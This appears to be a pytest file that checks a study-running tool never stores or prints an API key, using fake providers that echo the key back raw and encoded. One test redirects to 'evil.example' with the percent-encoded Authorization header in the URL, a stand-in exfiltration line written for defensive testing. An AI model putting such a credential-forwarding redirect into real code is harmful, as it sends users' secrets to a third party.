"""An API key reaches the provider but no file of the run directory, nor the console output."""

from __future__ import annotations

import base64
import binascii
import contextlib
import json
import os
import re
import subprocess
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path
from urllib.parse import unquote_to_bytes

from aiohttp import web
from study_helpers import run_command, write_study

from local_provider import serving
from polistemics.testing import FakeOpenAIServer, Fault, Rule, polistemic_responder
from polistemics.testing.completions import completion_body, error_body

SECRET = "sk-or-v1-planted-secret-7f3a9c2e1b0d4f6a8c5e"
ECHOED_SECRET = "sk-proj-Echo9Qx2Lm7Vb4Nz8Kt1Wr6Yp3Hs5Jd0Gf_-Uc2Ai"
FRAGMENT = 8  # no run of this many consecutive characters of a key may be stored or shown


def test_planted_key_appears_in_no_file_and_no_output(tmp_path: Path) -> None:
    # Some calls fail for good, so error messages are written too.
    rules = [Rule("Party A", always=Fault("status", status=500))]
    with FakeOpenAIServer(rules, expected_api_key=SECRET) as server:
        config = write_study(tmp_path, server.base_url, key_env="POLISTEMICS_PLANTED_KEY")
        run = run_command(
            "run",
            str(config),
            env={**os.environ, "POLISTEMICS_PLANTED_KEY": SECRET},
            timeout=300,
            quick_retries=True,  # its calls that fail for good are still tried 6 times
        )
        stats = server.stats()
    assert run.returncode == 0, run.stderr
    assert stats.authorized > 0 and stats.unauthorized == 0  # the key was sent with every call
    files = [p for p in tmp_path.rglob("*") if p.is_file()]
    assert len(files) > 10
    for path in files:
        assert SECRET.encode() not in path.read_bytes(), path
    assert SECRET not in run.stdout + run.stderr


def _run_study(tmp_path: Path, base_url: str, key: str) -> subprocess.CompletedProcess:
    config = write_study(tmp_path, base_url, key_env="POLISTEMICS_PLANTED_KEY")
    return run_command(
        "run",
        str(config),
        env={**os.environ, "POLISTEMICS_PLANTED_KEY": key},
        timeout=300,
        quick_retries=True,  # its calls that fail for good are still tried 6 times
    )


@contextmanager
def echoing_provider() -> Iterator[tuple[str, list[str]]]:
    """A provider that echoes the Authorization header it receives.

    Prompts about Party A fail with HTTP 500 whose message is 480 characters of padding and then
    the header (so a 500-character cut leaves a piece of the key); every free-text answer ends
    with the header. The test server cannot echo headers, so this one is scripted here.
    """
    seen: list[str] = []

    async def chat(request: web.Request) -> web.Response:
        header = request.headers.get("Authorization", "")
        seen.append(header)
        body = await request.json()
        prompt = json.dumps(body.get("messages"))
        if "Party A" in prompt:
            message = "x" * 480 + f" you sent Authorization: {header}"
            return web.json_response(error_body(500, message), status=500)
        answer = polistemic_responder(body)
        if not answer.lstrip().startswith(("{", "[")):  # JSON answers must stay parseable
            answer += f" (debug: your Authorization header was {header})"
        return web.json_response(completion_body(body, completion_id="echo", content=answer))

    with serving(chat) as base_url:
        yield base_url, seen


def _key_fragments(key: str) -> list[bytes]:
    return [key[i : i + FRAGMENT].encode() for i in range(len(key) - FRAGMENT + 1)]


def test_a_key_the_provider_echoes_leaves_no_fragment_in_any_file(tmp_path: Path) -> None:
    with echoing_provider() as (base_url, seen):
        run = _run_study(tmp_path, base_url, ECHOED_SECRET)
    assert run.returncode == 0, run.stderr
    assert seen and set(seen) == {f"Bearer {ECHOED_SECRET}"}
    files = [p for p in tmp_path.rglob("*") if p.is_file()]
    fragments = _key_fragments(ECHOED_SECRET)
    leaks = [
        (path.name, fragment.decode())
        for path in files
        for fragment in fragments
        if fragment in path.read_bytes()
    ]
    assert leaks == []
    output = (run.stdout + run.stderr).encode()
    assert [f for f in fragments if f in output] == []
    # The echoes did reach the run: the answers and the failed calls' errors carry them.
    stored = "".join(p.read_text() for p in (tmp_path / "run").rglob("*.jsonl"))
    assert "your Authorization header was Bearer [redacted]" in stored
    assert "you sent Authorization: Bearer [redacted]" in stored


def test_unset_key_fails_before_any_call_and_leaves_no_run(tmp_path: Path) -> None:
    env = {k: v for k, v in os.environ.items() if k != "POLISTEMICS_UNSET_KEY"}
    _fails_before_any_call(tmp_path, "POLISTEMICS_UNSET_KEY", env)


def test_an_unusable_proxy_fails_before_any_call_and_leaves_no_run(tmp_path: Path) -> None:
    env = {k: v for k, v in os.environ.items() if k.lower() not in ("http_proxy", "no_proxy")}
    env |= {"HTTP_PROXY": "socks5://127.0.0.1:1080", "POLISTEMICS_UNSET_KEY": "sk-set"}
    _fails_before_any_call(tmp_path, "HTTP_PROXY is 'socks5://127.0.0.1:1080'", env)


def test_an_unusable_proxy_is_named_without_its_password(tmp_path: Path) -> None:
    env = {k: v for k, v in os.environ.items() if k.lower() not in ("http_proxy", "no_proxy")}
    env |= {"HTTP_PROXY": "socks5://alice:hunter2@127.0.0.1:1080", "POLISTEMICS_UNSET_KEY": "x"}
    stderr = _fails_before_any_call(
        tmp_path, "HTTP_PROXY is 'socks5://alice:***@127.0.0.1:1080'", env
    )
    assert "hunter2" not in stderr


def _fails_before_any_call(tmp_path: Path, named: str, env: dict[str, str]) -> str:
    with FakeOpenAIServer() as server:
        config = write_study(tmp_path, server.base_url, key_env="POLISTEMICS_UNSET_KEY")
        run = run_command("run", str(config), env=env, timeout=120)
        assert server.stats().requests == 0
    assert run.returncode == 2
    assert named in run.stderr and run.stderr.count("\n") == 1
    assert not (tmp_path / "run").exists()
    return run.stderr


ENCODED_SECRET = "sk-or-v1-Enc0ded+Key/7f3a9c2e1b0d4f6a8c5e_Zq-91xW"


def _percent(text: str) -> str:
    return "".join(f"%{b:02X}" for b in text.encode())


def _json_escaped(text: str) -> str:
    return "".join(f"\\u{ord(c):04x}" for c in text)


def _decoded_fragments(data: bytes, key: str) -> list[str]:
    """The key's 8-character pieces in ``data``, raw or percent-, JSON- or base64-decoded."""
    views = [data, unquote_to_bytes(data)]
    text = data.decode("latin-1")
    views.append(re.sub(r"\\u([0-9a-fA-F]{4})", lambda m: chr(int(m[1], 16)), text).encode())
    for run in re.findall(rb"[A-Za-z0-9+/_-]{11,}", data):
        for skip in range(4):
            part = run[skip:]
            part = part[: len(part) - len(part) % 4]
            for decode in (base64.b64decode, base64.urlsafe_b64decode):
                with contextlib.suppress(binascii.Error, ValueError):
                    views.append(decode(part))
    pieces = {f.decode() for f in _key_fragments(key)}
    return sorted({p for p in pieces for view in views if p.encode() in view})


def test_a_key_echoed_encoded_in_every_way_leaves_no_piece_raw_or_decoded(tmp_path: Path) -> None:
    """URL-encoded, base64, JSON-escaped, in finish_reason, in usage and in a redirect's Location:
    no 8-character piece of the key in any file or output, even once decoded."""

    async def chat(request: web.Request) -> web.Response:
        header = request.headers.get("Authorization", "")
        body = await request.json()
        if "Party A" in json.dumps(body.get("messages")):
            raise web.HTTPFound("https://evil.example/v1?auth=" + _percent(header))
        answer = polistemic_responder(body)
        if not answer.lstrip().startswith(("{", "[")):  # JSON answers must stay parseable
            answer += (
                f" url {_percent(header)} b64 {base64.b64encode(header.encode()).decode()}"
                f" json {_json_escaped(header)}"
            )
        reply = completion_body(body, completion_id="echo", content=answer)
        reply["choices"][0]["finish_reason"] = header
        reply["usage"] = {"prompt_tokens": header, "completion_tokens": 3, "cost": float("nan")}
        return web.Response(text=json.dumps(reply), content_type="application/json")

    with serving(chat) as base_url:
        run = _run_study(tmp_path, base_url, ENCODED_SECRET)
    assert run.returncode == 0, run.stderr
    files = [p for p in tmp_path.rglob("*") if p.is_file()]
    assert any(p.name == "report.html" for p in files)
    assert any(p.name == "outputs.jsonl" for p in files)
    leaks = [
        (str(path.relative_to(tmp_path)), piece)
        for path in files
        for piece in _decoded_fragments(path.read_bytes(), ENCODED_SECRET)
    ]
    assert leaks == []
    assert _decoded_fragments((run.stdout + run.stderr).encode(), ENCODED_SECRET) == []
    stored = "".join(p.read_text() for p in (tmp_path / "run").rglob("*.jsonl"))
    assert re.search(r"redirected to https://evil\.example/v1\?auth=\S*\[redacted\]: use", stored)
